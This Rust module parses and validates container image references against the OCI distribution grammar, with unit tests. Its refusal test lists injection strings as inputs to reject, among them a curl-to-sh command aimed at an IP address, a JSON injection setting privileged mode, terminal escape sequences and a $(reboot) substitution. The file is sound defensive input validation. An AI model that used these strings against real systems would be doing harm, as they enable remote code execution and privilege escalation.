//! Container image references, checked against the distribution grammar (the one Docker and
//! every OCI registry use): `[host[:port]/]path[:tag][@algorithm:hex]`. Every image that
//! reaches the model passes through here (the file, `--image`, a rollback hold, a saved plan,
//! the last push), so none can carry a character a shell, JSON or a terminal would interpret.
//!
//! Hand-written rather than taken from a crate: the grammar is a dozen lines, and the crates
//! that parse it (oci-spec, oci-client) bring a registry client or every OCI schema with them.

/// Registries refuse longer repository names.
const MAX_NAME_LENGTH: usize = 255;
const MAX_TAG_LENGTH: usize = 128;

/// A parsed reference. `name` is host and path, as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImageReference<'a> {
    pub name: &'a str,
    pub tag: Option<&'a str>,
    /// `sha256:<64 hex>` (or another algorithm the grammar allows).
    pub digest: Option<&'a str>,
}

impl<'a> ImageReference<'a> {
    pub fn parse(text: &'a str) -> Result<Self, String> {
        let refuse = |why: &str| {
            Err(format!(
                "`{}` is not a container image reference: {why}",
                crate::printable::printable_line(text)
            ))
        };
        if text.is_empty() {
            return refuse("it is empty");
        }
        let (rest, digest) = match text.split_once('@') {
            Some((rest, digest)) => (rest, Some(digest)),
            None => (text, None),
        };
        if let Some(digest) = digest
            && !is_digest(digest)
        {
            return refuse("the part after `@` must be a digest such as sha256:<64 hex digits>");
        }
        // A `:` after the last `/` starts the tag; one before it belongs to a host's port.
        let tag_at = rest.rfind(':').filter(|&at| !rest[at..].contains('/'));
        let (name, tag) = match tag_at {
            Some(at) => (&rest[..at], Some(&rest[at + 1..])),
            None => (rest, None),
        };
        if let Some(tag) = tag
            && !is_tag(tag)
        {
            return refuse("a tag is 1 to 128 letters, digits, `_`, `.` or `-`, not starting with `.` or `-`");
        }
        if name.len() > MAX_NAME_LENGTH {
            return refuse("the name is longer than 255 characters");
        }
        if !is_name(name) {
            return refuse(
                "expected [host[:port]/]path[:tag][@sha256:digest], the path in lower case (letters, digits, and `.`, `_`, `-` between them)",
            );
        }
        Ok(Self { name, tag, digest })
    }

    /// The registry host (with port), when the reference names one: a first component with a
    /// `.` or `:`, or `localhost`, as Docker reads it.
    pub fn host(&self) -> Option<&'a str> {
        let (first, _) = self.name.split_once('/')?;
        (first.contains('.') || first.contains(':') || first == "localhost").then_some(first)
    }
}

/// The check every image reference passes, with a message fit for any source.
pub fn check_image(image: &str) -> Result<(), String> {
    ImageReference::parse(image).map(|_| ())
}

/// `repository_uri@sha256:<hex>`: an image of exactly that repository, by content.
pub fn is_digest_in(image: &str, repository_uri: &str) -> bool {
    match ImageReference::parse(image) {
        Ok(reference) => {
            reference.name == repository_uri
                && reference.tag.is_none()
                && reference.digest.is_some_and(|digest| digest.starts_with("sha256:"))
        }
        Err(_) => false,
    }
}

fn is_digest(digest: &str) -> bool {
    let Some((algorithm, hex)) = digest.split_once(':') else {
        return false;
    };
    let algorithm_ok = !algorithm.is_empty()
        && algorithm.split(['+', '.', '_', '-']).all(|part| {
            part.starts_with(|c: char| c.is_ascii_alphabetic()) && part.chars().all(|c| c.is_ascii_alphanumeric())
        });
    let hex_ok = if algorithm == "sha256" {
        hex.len() == 64 && hex.chars().all(|c| matches!(c, '0'..='9' | 'a'..='f'))
    } else {
        hex.len() >= 32 && hex.chars().all(|c| c.is_ascii_hexdigit())
    };
    algorithm_ok && hex_ok
}

fn is_tag(tag: &str) -> bool {
    (1..=MAX_TAG_LENGTH).contains(&tag.len())
        && tag.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        && tag.chars().all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c))
}

fn is_name(name: &str) -> bool {
    let mut components: Vec<&str> = name.split('/').collect();
    if components.len() > 1 && is_host(components[0]) {
        components.remove(0);
    }
    !components.is_empty() && components.iter().all(|component| is_path_component(component))
}

/// `host[:port]`: dot-separated labels of letters, digits and inner `-`.
fn is_host(first: &str) -> bool {
    if !(first.contains('.') || first.contains(':') || first == "localhost") {
        return false;
    }
    let (host, port) = match first.split_once(':') {
        Some((host, port)) => (host, Some(port)),
        None => (first, None),
    };
    let label_ok = |label: &str| {
        !label.is_empty()
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !label.starts_with('-')
            && !label.ends_with('-')
    };
    host.split('.').all(label_ok)
        && port.is_none_or(|port| !port.is_empty() && port.len() <= 5 && port.chars().all(|c| c.is_ascii_digit()))
}

/// `[a-z0-9]+((\.|_|__|-+)[a-z0-9]+)*`.
fn is_path_component(component: &str) -> bool {
    let bytes = component.as_bytes();
    let alnum = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    if bytes.is_empty() || !alnum(bytes[0]) || !alnum(bytes[bytes.len() - 1]) {
        return false;
    }
    let mut at = 0;
    while at < bytes.len() {
        if alnum(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && !alnum(bytes[at]) {
            at += 1;
        }
        let separator = &component[start..at];
        if !(separator == "." || separator == "_" || separator == "__" || separator.bytes().all(|b| b == b'-')) {
            return false;
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;

    const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    #[test]
    fn real_references_parse() {
        for image in [
            "api",
            "api:1.0.0",
            "ghcr.io/deployer/api:1.0.1",
            "localhost:5000/deployer/staging/api",
            "127.0.0.1:5000/api:latest",
            "123456789012.dkr.ecr.us-east-1.amazonaws.com/deployer/staging/api",
            "public.ecr.aws/docker/library/rust:1.91-slim-bookworm",
            "registry-1.docker.io/library/debian__x:bookworm",
            "gcr.io/distroless/cc-debian12:nonroot",
        ] {
            assert!(ImageReference::parse(image).is_ok(), "{image}");
        }
        let pinned = format!("ghcr.io/deployer/api:1.0@{DIGEST}");
        let reference = ImageReference::parse(&pinned).unwrap();
        assert_eq!(
            (reference.name, reference.tag, reference.digest, reference.host()),
            ("ghcr.io/deployer/api", Some("1.0"), Some(DIGEST), Some("ghcr.io"))
        );
        assert_eq!(ImageReference::parse("library/api").unwrap().host(), None);
    }

    #[test]
    fn what_a_shell_json_or_terminal_would_read_is_refused() {
        for image in [
            "",
            "ghcr.io/example/api:1.0'; curl -s http://203.0.113.9/x | sh; echo '",
            "ghcr.io/evil/api:1\", \"privileged\": true, \"x\": \"",
            "ghcr.io/api:1.0\r\u{1b}[2K",
            "ghcr.io/api:$(reboot)",
            "ghcr.io/Api:1",
            "ghcr.io/api:-x",
            "ghcr.io//api",
            "ghcr.io/api@sha256:abc",
            "ghcr.io/api@sha256:0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef",
            "ghcr.io/api:1 --privileged",
            "-x/api",
            "api.",
        ] {
            assert!(ImageReference::parse(image).is_err(), "{image:?}");
        }
        let message = check_image("api:1\r\u{1b}[2K").unwrap_err();
        assert!(message.contains(r"\r\u{1b}[2K"), "{message}");
    }

    #[test]
    fn a_digest_in_the_repository_is_exactly_that() {
        let repository = "123456789012.dkr.ecr.us-east-1.amazonaws.com/deployer/staging/api";
        assert!(is_digest_in(&format!("{repository}@{DIGEST}"), repository));
        assert!(!is_digest_in(&format!("{repository}:1.0"), repository));
        assert!(!is_digest_in(&format!("{repository}:1.0@{DIGEST}"), repository));
        assert!(!is_digest_in(&format!("{repository}-evil@{DIGEST}"), repository));
        assert!(!is_digest_in(&format!("ghcr.io/deployer/api@{DIGEST}"), repository));
    }
}
